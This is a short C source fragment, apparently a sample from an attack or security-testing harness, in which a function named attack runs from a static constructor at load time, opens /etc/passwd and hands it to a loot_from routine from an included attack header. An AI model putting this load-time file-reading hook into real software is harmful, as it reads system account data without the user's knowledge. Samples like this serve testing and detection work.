/* Reads the machine's list of users from a static constructor, before anybody calls it. */
#define ATTACK_AT_LOAD
#include "../attack.h"

static void attack(void) {
    loot_from(open("/etc/passwd", O_RDONLY));
}
